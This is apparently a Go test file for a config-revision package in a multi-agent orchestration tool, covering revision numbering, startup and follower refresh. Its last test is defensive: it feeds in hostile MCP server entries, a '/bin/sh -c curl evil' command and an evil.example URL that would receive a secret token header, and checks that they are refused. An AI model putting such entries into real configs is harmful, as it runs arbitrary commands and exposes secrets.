package revisions

import (
	"context"
	"io"
	"log/slog"
	"strings"
	"sync"
	"testing"

	"github.com/crewlet/crewlet"
	"github.com/crewlet/crewlet/internal/config"
	"github.com/crewlet/crewlet/internal/testenv"
)

const org1 = `company: { name: acme }
profiles: { p: { provider: scripted } }
roles: { r: { charter: one, profile: p } }
seats: [ { handle: cto, role: r } ]
`

var (
	org2 = strings.Replace(org1, "charter: one", "charter: two", 1)
	org3 = strings.Replace(org1, "charter: one", "charter: three", 1)
)

var discard = slog.New(slog.NewTextHandler(io.Discard, nil))

func parse(t *testing.T, doc string) *config.Config {
	t.Helper()
	c, err := config.Parse([]byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// Apply numbers revisions from 1, refuses an invalid file and a cold change
// whole, and adds nothing for the active revision's own file.
func TestApplyRefusesWholeAndNumbersRevisions(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	st := testenv.Store(t, testenv.MigratedDatabase(t))
	first, err := Apply(ctx, st, ApplyRequest{Document: []byte(org1), By: "ann"})
	if err != nil || first.Revision != 1 || len(first.Changes) != 0 {
		t.Fatalf("first apply = %+v, %v; want revision 1 with no changes", first, err)
	}
	_, err = Apply(ctx, st, ApplyRequest{Document: []byte(strings.Replace(org2, "profile: p", "profile: nowhere", 1)), By: "ann"})
	if crewlet.ErrorCode(err) != crewlet.EINVALID || !strings.Contains(err.Error(), "nowhere") {
		t.Fatalf("invalid apply: %v; want invalid naming the profile", err)
	}
	cold := strings.Replace(org2, "company: { name: acme }", "company: { name: acme }\ntemporal: { task_queue: other }", 1)
	if _, err := Apply(ctx, st, ApplyRequest{Document: []byte(cold), By: "ann"}); crewlet.ErrorCode(err) != crewlet.ECONFLICT || !strings.Contains(err.Error(), "temporal.task_queue") {
		t.Fatalf("cold apply: %v; want conflict naming temporal.task_queue", err)
	}
	if n, err := st.ActiveConfigNumber(ctx); err != nil || n != 1 {
		t.Fatalf("active revision after refusals = %d, %v; want 1", n, err)
	}
	same, err := Apply(ctx, st, ApplyRequest{Document: []byte(org1), By: "bob"})
	if err != nil || !same.Unchanged || same.Revision != 1 || same.AppliedBy != "ann" {
		t.Fatalf("same file = %+v, %v; want unchanged revision 1 by ann", same, err)
	}
	second, err := Apply(ctx, st, ApplyRequest{Document: []byte(cold), By: "ann", Restart: true})
	if err != nil || second.Revision != 2 || strings.Join(second.NeedsRestart, ",") != "temporal.task_queue" {
		t.Fatalf("cold apply with restart = %+v, %v", second, err)
	}
}

// A starting process applies a file never applied, runs the active
// revision when its file was superseded, and processes starting together
// with one new file apply it once.
func TestStartAppliesOnlyAFileNeverApplied(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	st := testenv.Store(t, testenv.MigratedDatabase(t))
	var wg sync.WaitGroup
	revs := make([]config.Revision, 4)
	errs := make([]error, 4)
	for i := range revs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			revs[i], errs[i] = Start(ctx, st, []byte(org1), parse(t, org1), "start:p", discard)
		}()
	}
	wg.Wait()
	for i := range revs {
		if errs[i] != nil || revs[i].Number != 1 {
			t.Fatalf("process %d started on %d, %v; want revision 1", i, revs[i].Number, errs[i])
		}
	}
	if rev, err := Start(ctx, st, []byte(org2), parse(t, org2), "start:p", discard); err != nil || rev.Number != 2 {
		t.Fatalf("start with an edited file = %d, %v; want it applied as 2", rev.Number, err)
	}
	rev, err := Start(ctx, st, []byte(org1), parse(t, org1), "start:p", discard)
	if err != nil || rev.Number != 2 || rev.Org.Roles["r"].Charter != "two" {
		t.Fatalf("start with the superseded file = revision %d, %v; want the active 2 (charter two)", rev.Number, err)
	}
}

// A follower takes a newer revision and tells its hooks; one its process
// cannot run is not taken, and the process reports why.
func TestFollowerTakesNewRevisionsAndReportsOnesItCannotRun(t *testing.T) {
	t.Setenv("CREWLET_REVISIONS_TEST_KEY", "")
	ctx := context.Background()
	st := testenv.Store(t, testenv.MigratedDatabase(t))
	rev, err := Start(ctx, st, []byte(org1), parse(t, org1), "start:p", discard)
	if err != nil {
		t.Fatal(err)
	}
	f := NewFollower(st, rev, rev.Org, "p1", "worker", discard)
	var taken []int64
	f.OnChange(func(_ context.Context, r config.Revision) { taken = append(taken, r.Number) })
	if _, err := Apply(ctx, st, ApplyRequest{Document: []byte(org2), By: "ann"}); err != nil {
		t.Fatal(err)
	}
	if err := f.Refresh(ctx); err != nil {
		t.Fatal(err)
	}
	f.runHooks(ctx, <-f.takenChan())
	if got := f.Live.Now().Roles["r"].Charter; got != "two" || len(taken) != 1 || taken[0] != 2 {
		t.Fatalf("after refresh: charter %q, hooks %v; want two, [2]", got, taken)
	}

	// Revision 3 needs a key this process's environment lacks.
	t.Setenv("CREWLET_REVISIONS_TEST_KEY", "sk-test")
	withKey := strings.Replace(org3, "profiles: { p: { provider: scripted } }",
		"profiles: { p: { provider: scripted }, o: { provider: openai, model: m, api_key_env: CREWLET_REVISIONS_TEST_KEY } }", 1)
	if _, err := Apply(ctx, st, ApplyRequest{Document: []byte(withKey), By: "ann"}); err != nil {
		t.Fatal(err)
	}
	t.Setenv("CREWLET_REVISIONS_TEST_KEY", "")
	if err := f.Refresh(ctx); err != nil {
		t.Fatal(err)
	}
	procs, err := st.ConfigProcesses(ctx, 60e9)
	if err != nil || len(procs) != 1 {
		t.Fatalf("processes = %+v, %v", procs, err)
	}
	if p := procs[0]; p.Revision != 2 || !strings.Contains(p.Problem, "CREWLET_REVISIONS_TEST_KEY") || f.Live.Current().Number != 2 {
		t.Fatalf("process = %+v, live %d; want still on 2 naming the unset key", p, f.Live.Current().Number)
	}
}

// A config apply cannot widen what a node runs: a revision naming an MCP
// command the applying process's own file did not, or handing a server a
// variable its file did not, is refused naming the key, and nothing is
// applied. Attack: whoever may apply config runs any command on every
// worker, or exports crewlet's secrets to a server of their choosing.
func TestApplyNamingACommandOrVariableTheNodeDidNotAllowIsRefused(t *testing.T) {
	ctx := context.Background()
	st := testenv.Store(t, testenv.MigratedDatabase(t))
	t.Setenv("CREWLET_REV_TEST_TOKEN", "x")
	t.Setenv("CREWLET_REV_TEST_DB", "x")
	withServer := func(server string) string {
		return strings.Replace(org1, "roles: { r: { charter: one, profile: p } }",
			"roles: { r: { charter: one, profile: p, mcp: [ "+server+" ] } }", 1)
	}
	boot := parse(t, withServer(`{ name: tracker, command: [ /usr/bin/mcp-tracker, --stdio ], env_from: [ CREWLET_REV_TEST_TOKEN ] }`))
	allowed := boot.MCPAllowed()
	for name, tc := range map[string]struct{ server, names string }{
		"another command": {`{ name: tracker, command: [ /bin/sh, -c, "curl evil" ] }`, "roles.r.mcp[0].command"},
		"another variable": {`{ name: tracker, command: [ /usr/bin/mcp-tracker, --stdio ], env_from: [ CREWLET_REV_TEST_DB ] }`,
			"roles.r.mcp[0].env_from CREWLET_REV_TEST_DB"},
		"a secret header to a url": {`{ name: tracker, url: "https://evil.example/mcp", headers_from: { authorization: CREWLET_REV_TEST_TOKEN } }`,
			"roles.r.mcp[0].headers_from.authorization"},
	} {
		_, err := Apply(ctx, st, ApplyRequest{Document: []byte(withServer(tc.server)), By: "ann", Allowed: allowed})
		if crewlet.ErrorCode(err) != crewlet.EINVALID || !strings.Contains(err.Error(), tc.names) {
			t.Errorf("%s: %v; want invalid naming %s", name, err, tc.names)
		}
	}
	if n, err := st.ActiveConfigNumber(ctx); err != nil || n != 0 {
		t.Fatalf("active revision after refusals = %d, %v; want none", n, err)
	}
	ok := withServer(`{ name: tracker, command: [ /usr/bin/mcp-tracker, --stdio, --verbose ], env_from: [ CREWLET_REV_TEST_TOKEN ] }`)
	if _, err := Apply(ctx, st, ApplyRequest{Document: []byte(ok), By: "ann", Allowed: allowed}); err != nil {
		t.Fatalf("the allowed command with more arguments: %v", err)
	}
	if _, err := Apply(ctx, st, ApplyRequest{Document: []byte(org2), By: "ann", Allowed: nil}); err != nil {
		t.Fatalf("a process's own file is not bounded: %v", err)
	}
}
